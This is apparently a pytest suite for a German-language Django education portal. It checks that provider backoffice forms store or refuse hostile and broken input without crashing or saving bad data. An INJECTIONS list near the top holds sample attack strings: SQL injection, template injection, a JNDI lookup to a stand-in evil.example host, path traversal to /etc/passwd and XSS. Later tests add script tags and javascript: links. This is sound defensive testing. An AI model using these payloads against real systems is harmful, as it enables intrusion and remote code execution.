"""Hostile and broken input to the provider forms: German messages, no 500, nothing saved."""

import pytest
from django.urls import reverse

from bildungsportal.backoffice.forms import EuroField
from bildungsportal.catalog.models import Offering, Provider, Run
from tests import factories
from tests.test_backoffice_provider import create_url, offering_post

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "'; DROP TABLE catalog_offering; --",
    "\" OR 1=1 --",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "<img src=x onerror=alert(1)>Kurs",
]


@pytest.fixture
def data():
    data = factories.small_catalog()
    data["staff"] = factories.user("vhs", providers=[data["vhs"]])
    return data


@pytest.fixture
def staff_client(client, data):
    client.force_login(data["staff"])
    return client


def refused(client, data, message, **overrides):
    """POST the form with overrides; it must re-render (200) with message and save nothing."""
    count, runs = Offering.objects.count(), Run.objects.count()
    response = client.post(create_url(data), offering_post(data, **overrides))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Bitte korrigieren Sie die markierten Angaben" in html
    assert message in html, html[html.find("bo-error-summary"):][:2000]
    assert (Offering.objects.count(), Run.objects.count()) == (count, runs)
    return html


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_strings_are_stored_as_plain_text(staff_client, data, text):
    response = staff_client.post(create_url(data), offering_post(data, title=text,
                                                                  summary=text))
    assert response.status_code == 302
    offering = Offering.objects.latest("pk")
    assert "<" not in offering.title and "onerror" not in offering.title
    assert Offering.objects.filter(pk=data["english"].pk).exists()
    page = staff_client.get(reverse("backoffice:home")).content.decode()
    assert "<img src=x" not in page
    assert "49" not in offering.title  # templates were not evaluated


def test_script_in_description_is_removed(staff_client, data):
    post = offering_post(data, description="Vorher <script>alert('x')</script><b>fett</b> "
                         "&amp; <a href=\"javascript:alert(1)\">Link</a> nachher")
    assert staff_client.post(create_url(data), post).status_code == 302
    offering = Offering.objects.latest("pk")
    assert offering.description == "Vorher fett & Link nachher"
    preview = staff_client.get(reverse("backoffice:offering-preview", args=[offering.pk]))
    assert "<script>alert" not in preview.content.decode()


def test_title_of_only_html_is_refused(staff_client, data):
    refused(staff_client, data, "Der Titel darf nicht nur aus HTML bestehen.",
            title="<script>alert(1)</script>")


def test_negative_price(staff_client, data):
    refused(staff_client, data, "Ein Preis kann nicht negativ sein.", price_cents="-5,00")


@pytest.mark.parametrize("price", ["zwölf", "12,5,0", "1e9", "12,505", "12;50", "0x10"])
def test_unreadable_price(staff_client, data, price):
    refused(staff_client, data, "Bitte einen Betrag in Euro eingeben", price_cents=price)


def test_absurd_price(staff_client, data):
    refused(staff_client, data, "unrealistisch hoch", price_cents="99999999999")


def test_free_with_price_and_reduced_above_price(staff_client, data):
    refused(staff_client, data, "Ein kostenfreies Angebot hat keinen Preis", is_free="on")
    refused(staff_client, data, "Der ermäßigte Preis darf nicht höher sein",
            price_reduced_cents="20")
    refused(staff_client, data, "Bitte geben Sie auch den vollen Preis an.",
            price_cents="", price_reduced_cents="5")


@pytest.mark.parametrize(("text", "cents"), [
    ("12,50", 1250), ("12,50 €", 1250), ("12.50", 1250), ("1.234,5", 123450), ("7", 700),
    ("  3,05\u00a0€ ", 305), ("0", 0), ("12 EUR", 1200),
])
def test_euro_parsing(text, cents):
    assert EuroField().clean(text) == cents


def test_end_before_start(staff_client, data):
    refused(staff_client, data, "Das Ende liegt vor dem Beginn.",
            **{"termine-0-end_date": "01.03.2027"})


def test_end_time_before_start_time(staff_client, data):
    refused(staff_client, data, "Die Endzeit muss nach der Anfangszeit liegen.",
            **{"termine-0-end_time": "17:00"})


@pytest.mark.parametrize("day", ["31.02.2027", "00.01.2027", "2027-13-01", "morgen", "1.1.1"])
def test_impossible_date(staff_client, data, day):
    refused(staff_client, data, "Bitte ein gültiges Datum im Format TT.MM.JJJJ",
            **{"termine-0-start_date": day})


def test_date_far_in_the_future(staff_client, data):
    refused(staff_client, data, "Das Datum muss zwischen 2000 und 2100 liegen.",
            **{"termine-0-start_date": "01.01.9999", "termine-0-end_date": ""})


def test_once_without_date(staff_client, data):
    refused(staff_client, data, "Bitte geben Sie das Datum des Termins an.",
            **{"termine-0-recurrence": "once", "termine-0-start_date": "",
               "termine-0-end_date": ""})


def test_huge_text(staff_client, data):
    refused(staff_client, data, "höchstens 20000 Zeichen", description="A" * 200_000)
    refused(staff_client, data, "höchstens 250 Zeichen", title="T" * 5000)


def test_null_bytes_and_bad_choices(staff_client, data):
    refused(staff_client, data, "Null", title="Kurs\x00")
    refused(staff_client, data, "gültige Auswahl", **{"termine-0-recurrence": "monthly"})
    refused(staff_client, data, "gültige Auswahl", topics=["999999"])
    refused(staff_client, data, "gültige Auswahl", **{"termine-0-weekdays": ["9"]})


def test_venue_of_another_provider_cannot_be_chosen(staff_client, data):
    foreign = factories.venue(data["heppenheim"], name="Fremder Saal",
                              provider=data["music"])
    refused(staff_client, data, "gültige Auswahl", **{"termine-0-place": foreign.pk})


def test_seats_out_of_range(staff_client, data):
    refused(staff_client, data, "Termin 1", **{"termine-0-seats": "-3"})
    refused(staff_client, data, "kleiner oder gleich 10000", **{"termine-0-seats": "9999999"})
    refused(staff_client, data, "kleiner oder gleich 1000", **{"termine-0-sessions": "40000"})
    refused(staff_client, data, "größer oder gleich 0", **{"termine-0-hours": "-2,5"})
    refused(staff_client, data, "Termin 1", **{"termine-0-hours": "123456789"})


def test_tampered_management_form_does_not_crash(staff_client, data):
    refused(staff_client, data, "höchstens 50", **{"termine-TOTAL_FORMS": "100000"})
    refused(staff_client, data, "Management-Formular", **{"termine-TOTAL_FORMS": "abc"})
    # A negative count means "no runs": the offering is saved without any.
    response = staff_client.post(create_url(data),
                                 offering_post(data, **{"termine-TOTAL_FORMS": "-1"}))
    assert response.status_code == 302
    assert Offering.objects.get(title="Yoga am Abend").runs.count() == 0
    Offering.objects.filter(title="Yoga am Abend").delete()
    response = staff_client.post(create_url(data),
                                 offering_post(data, add_run="1",
                                               **{"termine-TOTAL_FORMS": "99999"}))
    assert response.status_code == 200
    assert not Offering.objects.filter(title="Yoga am Abend").exists()


def test_provider_cannot_be_smuggled_in(staff_client, data):
    post = offering_post(data, provider=data["music"].pk, status="published",
                         source="vhs", external_id="x")
    assert staff_client.post(create_url(data), post).status_code == 302
    offering = Offering.objects.latest("pk")
    assert (offering.provider, offering.status, offering.source, offering.external_id) == (
        data["vhs"], "draft", "manual", ""
    )


def test_profile_huge_and_hostile_input(staff_client, data):
    url = reverse("backoffice:provider-profile", args=[data["vhs"].pk])
    response = staff_client.post(url, {"name": "<script></script>", "description": "x" * 30000,
                                       "email": "kein-mail", "postcode": "6462"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Der Name darf nicht nur aus HTML bestehen." in html
    assert "höchstens 20000 Zeichen" in html
    assert "Diese Postleitzahl kennen wir nicht" in html
    assert Provider.objects.get(pk=data["vhs"].pk).name == "VHS Bergstraße"
